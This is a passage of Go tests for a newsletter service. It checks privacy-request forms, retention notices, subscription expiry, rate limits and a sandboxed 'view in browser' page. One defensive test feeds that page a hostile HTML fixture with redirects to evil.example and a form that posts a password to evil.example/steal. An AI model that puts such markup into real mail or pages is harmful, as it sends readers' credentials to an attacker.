			t.Errorf("%s correction text: %d\n%s", name, r.code, r.body)
		}
	}
	if n := requests(); n != 0 {
		t.Fatalf("a refused correction recorded %d requests", n)
	}

	for _, kind := range privacy.RequestKinds {
		form := url.Values{"csrf": {e.getForm(path)}, "kind": {kind}, "details": {"My name is Rita Jansen, not Rita"}}
		if r := e.post(path, form); r.code != 200 || !strings.Contains(r.body, "binnen een maand") {
			t.Fatalf("%s request: %d\n%s", kind, r.code, r.body)
		}
	}
	rows, err := e.db.Query(context.Background(), `SELECT kind, contact_id, lang, coalesce(details, ''), due_at > verified_at + interval '27 days'
		FROM privacy_requests ORDER BY id`)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for rows.Next() {
		var kind, lang, details string
		var contact int64
		var due bool
		if err := rows.Scan(&kind, &contact, &lang, &details, &due); err != nil {
			t.Fatal(err)
		}
		if contact != cid || lang != "nl" || !due {
			t.Errorf("%s request: contact %d (want %d, not %d), lang %q, due date set %v", kind, contact, cid, other, lang, due)
		}
		got = append(got, kind+":"+details)
	}
	if rows.Err() != nil {
		t.Fatal(rows.Err())
	}
	if want := "access:|erasure:|rectification:My name is Rita Jansen, not Rita|restriction:|objection:"; strings.Join(got, "|") != want {
		t.Errorf("requests %s, want %s", strings.Join(got, "|"), want)
	}
}

// TestPrivacyStatementAndRights: every page's footer links to the
// organisation's privacy statement when one is configured, and the privacy
// form takes the other rights as request kinds.
func TestPrivacyStatementAndRights(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{statement: "https://example.org/privacyverklaring"})
	e.list("news", "double")
	for _, path := range []string{"/privacy", "/privacy?lang=nl", "/s/news"} {
		r := e.get(path)
		if !strings.Contains(r.body, `<a href="https://example.org/privacyverklaring">`) {
			t.Errorf("%s (%d) has no link to the privacy statement", path, r.code)
		}
	}
	if r := e.get("/privacy?lang=nl"); !strings.Contains(r.body, "Privacyverklaring") || !strings.Contains(r.body, `value="objection"`) ||
		!strings.Contains(r.body, `value="rectification"`) || !strings.Contains(r.body, `value="restriction"`) {
		t.Errorf("Dutch privacy form lacks the statement or the rights:\n%s", r.body)
	}
	// A rectification says what should be corrected, by the same rule as
	// the recipient link's form: required, at most 2000 characters; the
	// form comes back with the error naming the field and what was typed.
	for _, bad := range []string{"", " \r\n ", strings.Repeat("é", 2001)} {
		r := e.post("/privacy", url.Values{"csrf": {e.getForm("/privacy")}, "email": {"x@example.org"}, "kind": {"rectification"}, "details": {bad}})
		if r.code != 422 || !strings.Contains(r.body, "What should be corrected: please describe it, in at most 2000 characters.") ||
			!strings.Contains(r.body, `value="x@example.org"`) || !strings.Contains(r.body, `value="rectification" checked`) {
			t.Errorf("rectification with details %.12q: %d\n%s", bad, r.code, r.body)
		}
	}
	if r := e.post("/privacy", url.Values{"csrf": {e.getForm("/privacy")}, "email": {"x@example.org"}, "kind": {"rectification"},
		"details": {"<b>Zoë</b> is spelled with ë"}}); r.code != 200 {
		t.Errorf("rectification request: %d", r.code)
	}
	for _, kind := range []string{"restriction", "objection"} {
		// Text typed in the field goes with a rectification only.
		if r := e.post("/privacy", url.Values{"csrf": {e.getForm("/privacy")}, "email": {"x@example.org"}, "kind": {kind}, "details": {"stray"}}); r.code != 200 {
			t.Errorf("%s request: %d", kind, r.code)
		}
	}
	e.srv.Wait()
	if calls := strings.Join(e.priv.calls(), "|"); calls != "email x@example.org rectification (<b>Zoë</b> is spelled with ë) 127.0.0.1 en|email x@example.org restriction 127.0.0.1 en|email x@example.org objection 127.0.0.1 en" {
		t.Errorf("calls %s", calls)
	}
	if r := e.get("/privacy?lang=nl"); !strings.Contains(r.body, `<textarea id="details" name="details" rows="4" maxlength="2000">`) {
		t.Errorf("the form has no bounded details field:\n%s", r.body)
	}
	plain := newEnv(t, envOpt{})
	if r := plain.get("/privacy"); strings.Contains(r.body, "Privacy statement") {
		t.Error("a statement link without privacy.statement_url")
	}
}

// TestRetentionTold: the subscribe form and the confirmation mail state
// the list's purpose and how long the details are kept (with the link to
// the privacy statement), and the consent evidence records the retention
// sentence the person saw.
func TestRetentionTold(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{retentionDays: 365, statement: "https://example.org/privacyverklaring"})
	e.list("news", "double")
	r := e.get("/s/news?lang=nl")
	keep := "Wij bewaren uw gegevens zolang u bent ingeschreven. Staat u op geen enkele lijst meer, of werkt uw adres niet meer, dan wissen wij ze na 365 dagen."
	if !strings.Contains(r.body, "News about news") || !strings.Contains(r.body, keep) {
		t.Fatalf("form lacks purpose or retention:\n%s", r.body)
	}
	r = e.post("/s/news?lang=nl", url.Values{"csrf": {csrf(t, r.body)}, "email": {"bo@example.org"}, "consent": {"yes"}})
	if r.code != 200 {
		t.Fatalf("subscribe: %d", r.code)
	}
	e.srv.Wait() // the form records in the background
	ev := e.scalar(`SELECT evidence FROM consent_records WHERE action = 'opt-in'`).(string)
	if !strings.Contains(ev, keep) || !strings.HasPrefix(ev, "subscribe-form/nl/") {
		t.Errorf("evidence %q lacks the retention sentence", ev)
	}
	text := textPart(t, e.smtp.wait(t))
	for _, want := range []string{"Doel: News about news", keep, "Privacyverklaring: https://example.org/privacyverklaring"} {
		if !strings.Contains(text, want) {
			t.Errorf("confirmation mail lacks %q:\n%s", want, text)
		}
	}
	plain := newEnv(t, envOpt{})
	plain.list("news", "single")
	if r := plain.get("/s/news"); !strings.Contains(r.body, "We keep your details as long as you are subscribed, and erase them when you ask.") {
		t.Errorf("form without automatic erasure:\n%s", r.body)
	}
}

func TestExpireUnconfirmed(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	e.list("d", "double")
	r := e.post("/s/d", url.Values{"csrf": {e.getForm("/s/d")}, "email": {"late@example.org"}, "consent": {"yes"}})
	if r.code != 200 {
		t.Fatal(r.code)
	}
	e.smtp.wait(t)
	er := privacy.New(privacy.Options{DB: e.db, Contacts: e.cs})
	subs, erased, err := e.rcp.ExpireUnconfirmed(context.Background(), time.Hour, er)
	if err != nil || subs != 0 || erased != 0 {
		t.Fatalf("fresh subscription expired: %d %d %v", subs, erased, err)
	}
	e.db.Exec(context.Background(), `UPDATE subscriptions SET updated_at = now() - interval '2 hours'`)
	subs, erased, err = e.rcp.ExpireUnconfirmed(context.Background(), time.Hour, er)
	if err != nil || subs != 1 || erased != 1 || e.scalar(`SELECT count(*) FROM contacts`).(int64) != 0 {
		t.Fatalf("expiry: %d %d %v", subs, erased, err)
	}
}

func TestViewInBrowser(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	l := e.list("a", "single")
	cid := e.contact("anna@example.org", "Anna <i>", nil, l)
	other := e.contact("bob@example.org", "Bob", nil, l)
	camp := e.campaign("regular", `<p>Hello {{.Contact.Name}}</p><p><a href="{{.Links.Unsubscribe}}">unsubscribe</a></p>`, []int64{l}, cid)
	r := e.get(e.mint(rtoken.View, cid, camp))
	if r.code != 200 || !strings.Contains(r.body, "Hello Anna &lt;i&gt;") || !strings.Contains(r.body, "http://public.test/u/") {
		t.Fatalf("view: %d\n%s", r.code, r.body)
	}
	if csp := r.hdr.Get("Content-Security-Policy"); strings.Contains(csp, "script") || !strings.Contains(csp, "default-src 'none'") {
		t.Fatalf("view CSP %q", csp)
	}
	if r := e.get(e.mint(rtoken.View, other, camp)); r.code != 404 {
		t.Fatalf("view by a non-recipient: %d", r.code)
	}
}

// The mail in the browser is the mail that was sent: a hidden attribute
// (data minimisation), left out of every mail template, is left out of the
// view too, or a template naming it would show it on a page behind a link.
func TestViewInBrowserLeavesHiddenAttributesOut(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	l := e.list("a", "single")
	cid := e.contact("anna@example.org", "Anna", map[string]any{"bsn": "123456782", "city": "Delft"}, l)
	if _, err := e.db.Exec(context.Background(), `INSERT INTO hidden_attributes (key, hidden_by) VALUES ('bsn', 'test')`); err != nil {
		t.Fatal(err)
	}
	camp := e.campaign("regular", `<p>{{range $k, $v := .Contact.Attributes}}[{{$k}}:{{$v}}]{{end}} {{.Contact.Attributes.bsn}}</p>`, []int64{l}, cid)
	r := e.get(e.mint(rtoken.View, cid, camp))
	if r.code != 200 || !strings.Contains(r.body, "[city:Delft]") {
		t.Fatalf("view: %d\n%s", r.code, r.body)
	}
	if strings.Contains(r.body, "123456782") || strings.Contains(r.body, "[bsn:") {
		t.Errorf("the view shows the hidden attribute:\n%s", r.body)
	}
}

// The view page cannot redirect, post a form off-site or re-base links:
// meta refresh is removed, and the CSP forbids forms and <base>.
func TestViewInBrowserNeutralised(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	l := e.list("a", "single")
	cid := e.contact("anna@example.org", "Anna", nil, l)
	doc := `<!DOCTYPE html><html><head><META HTTP-EQUIV="Refresh" content="0;url=https://evil.example/"><meta http-equiv=refresh content="1;https://evil.example/"/>
<base href="https://evil.example/"><meta charset="utf-8"><title>T</title></head><body><p>Hi</p>
<form action="https://evil.example/steal" method="post"><input name="password"></form><script>var s = "<meta http-equiv=refresh>";</script></body></html>`
	camp := e.campaign("regular", doc, []int64{l}, cid)
	r := e.get(e.mint(rtoken.View, cid, camp))
	if r.code != 200 || !strings.Contains(r.body, "<p>Hi</p>") || !strings.Contains(r.body, `<meta charset="utf-8">`) {
		t.Fatalf("view: %d\n%s", r.code, r.body)
	}
	if low := strings.ToLower(r.body); strings.Contains(low, `http-equiv="refresh"`) || strings.Contains(low, "http-equiv=refresh content") {
		t.Errorf("meta refresh served:\n%s", r.body)
	}
	csp := r.hdr.Get("Content-Security-Policy")
	for _, want := range []string{"form-action 'none'", "base-uri 'none'", "sandbox", "default-src 'none'"} {
		if !strings.Contains(csp, want) {
			t.Errorf("view CSP %q lacks %s", csp, want)
		}
	}
}

// The forms that send mail are capped per client address.
func TestFormRateLimit(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{formsPerWindow: 3})
	e.list("d", "double")
	for i := 0; i < 4; i++ {
		r := e.post("/s/d", url.Values{"csrf": {e.getForm("/s/d")}, "email": {fmt.Sprintf("p%d@example.org", i)}, "consent": {"yes"}})
		want := 200
		if i == 3 {
			want = 429
		}
		if r.code != want {
			t.Fatalf("post %d: %d, want %d", i, r.code, want)
		}
	}
	if r := e.post("/privacy", url.Values{"csrf": {e.getForm("/privacy")}, "email": {"x@example.org"}, "kind": {"access"}}); r.code != 429 {
		t.Fatalf("privacy form over the cap: %d", r.code)
	}
	e.srv.Wait()
	if n := e.scalar(`SELECT count(*) FROM contacts`).(int64); n != 3 {
		t.Fatalf("%d contacts, want 3", n)
	}
}

// Every visible form field of every page has a label, and every page a
// language and one h1.
func TestFormsAreLabelled(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	l := e.list("a", "double")
	cid := e.contact("x@example.org", "X", nil, l)
	camp := e.campaign("update", "<p>x</p>", []int64{l}, cid)
	up := e.mint(rtoken.Update, cid, camp)
	inputRE := regexp.MustCompile(`<input ([^>]*)>`)
	idRE := regexp.MustCompile(`\bid="([^"]+)"`)
	for _, p := range []string{"/s/a", up, up + "?answer=ok", up + "?answer=change", up + "?answer=remove",
		e.mint(rtoken.Unsubscribe, cid, camp), "/privacy", e.mint(rtoken.Privacy, cid, 0), "/nothing", "/s/a?lang=nl"} {
		r := e.get(p)
		if strings.Count(r.body, "<h1>") != 1 || !regexp.MustCompile(`<html lang="(en|nl)">`).MatchString(r.body) {
			t.Errorf("%s: no lang or not one h1", p)
		}
		for _, in := range inputRE.FindAllStringSubmatch(r.body, -1) {
			if strings.Contains(in[1], `type="hidden"`) {
				continue
			}
			id := idRE.FindStringSubmatch(in[1])
			if id == nil || !strings.Contains(r.body, `<label for="`+id[1]+`"`) {
				t.Errorf("%s: input without a label: %s", p, in[0])
			}
		}
	}
}

// TestFormRateLimitKeepsNoClientAddress: the per-client cap of the forms
// counts under a keyed hash of the client address, as every other
// per-client counter in Redis does: no Redis key names the address.
func TestFormRateLimitKeepsNoClientAddress(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{formsPerWindow: 3})
	e.list("d", "double")
	if r := e.post("/s/d", url.Values{"csrf": {e.getForm("/s/d")}, "email": {"p@example.org"}, "consent": {"yes"}}); r.code != 200 {
		t.Fatalf("post: %d", r.code)
	}
	e.srv.Wait()
	keys, err := e.rdb.Keys(context.Background(), e.prefix+"*").Result()
	if err != nil {
		t.Fatal(err)
	}
	var form int
	for _, k := range keys {
		if strings.Contains(k, "127.0.0.1") {
			t.Errorf("a Redis key names the client address: %s", k)
		}
		if strings.Contains(k, ":form:") {
			form++
		}
	}
	if form != 1 {
		t.Fatalf("form counters: %d in %v", form, keys)
	}
}
